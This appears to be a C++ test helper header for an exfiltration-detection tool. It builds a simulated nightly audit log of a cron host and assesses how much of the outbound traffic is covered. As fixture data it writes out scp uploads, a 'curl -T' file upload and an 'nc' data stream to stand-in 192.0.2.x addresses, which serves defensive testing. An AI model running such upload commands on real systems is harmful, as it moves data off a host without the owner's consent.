#pragma once

#include "auexfil/coverage/assess.hpp"
#include "host_with_cron.hpp"

namespace auexfil::test {

using Audited = std::function<bool(const Called&)>;

/// A night of a host: jobs of root and of a user, some of them transfers.
inline CronHost night(const Audited& audited, bool quiet = false) {
  CronHost log("", audited);
  const auto upload = [&](std::uint32_t auid, const char* host) {
    const int scp = log.tool("/usr/bin/scp", {"scp", "f", std::string(host) + ":p"}, auid);
    log.write(scp, 2, 20);
    const int ssh = log.ssh_child(scp, CronHost::sftp_argv(host), host);
    log.upload(ssh, 3, 400'000);
    log.close(ssh, 3);
    log.open(ssh, 3, "/home/a/.ssh/known_hosts");
    log.write(ssh, 3, 90'000);
    log.done(ssh);
    log.exit(scp);
  };
  upload(0, kDrop);
  upload(1000, kOther);
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://192.0.2.33/f"}, 1000);
  log.socket(curl, 5, 0x801);
  log.connect(curl, 5, "192.0.2.33", 80, -115);
  log.send(curl, 5, 160);
  for (int i = 0; i < 4; ++i) {
    log.send(curl, 5, 65536);
  }
  log.done(curl, 5);
  const int nc = log.tool("/usr/bin/nc.openbsd", {"nc", "-N", "192.0.2.44", "9000"});
  log.tcp(nc, 3, "192.0.2.44", 9000);
  for (int i = 0; i < 10; ++i) {
    log.write(nc, 3, 16384);
  }
  log.done(nc);
  for (int i = 0; i < (quiet ? 0 : 30); ++i) {  // the rest of the host
    const int shell = log.job("true", i % 2 == 0 ? 0U : 1000U);
    log.write(shell, 1, 5);
    log.call(shell, "socket", 7, {1, 1, 0});
    log.call(shell, "connect", -2, {7, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/nscd")});
    log.close(shell, 7);
    log.write(CronHost::kCron, 6, 40);
    log.close(CronHost::kCron, 6);
    log.sendto(CronHost::kCron, 9, 40, "127.0.0.1", 514);
    log.write(CronHost::kSshd, 6, 16384);
    log.exit(shell);
  }
  return log;
}

inline facts::Fact of(const std::vector<facts::Fact>& facts, const char* address) {
  const auto found = to(facts, address);
  INFO(address);
  REQUIRE(found.size() == 1);
  return found[0];
}

inline coverage::HostCoverage coverage_of(const std::string& text) {
  const Told told = tell_host(text);
  coverage::HostCoverage coverage =
      coverage::assess(told.tracker->tally(), coverage::visibility_of(told.tracker->tally()));
  const transfer::Untold& untold = told.builder->untold();
  std::uint64_t messages = 0;
  for (const auto& [to, sum] : untold.sums) {
    messages += sum.datagrams + sum.messages;
  }
  coverage::note_untold(messages, untold.connections, coverage);
  return coverage;
}

inline coverage::HostCoverage coverage_of(const Log& log) {
  return coverage_of(log.text());
}

}  // namespace auexfil::test
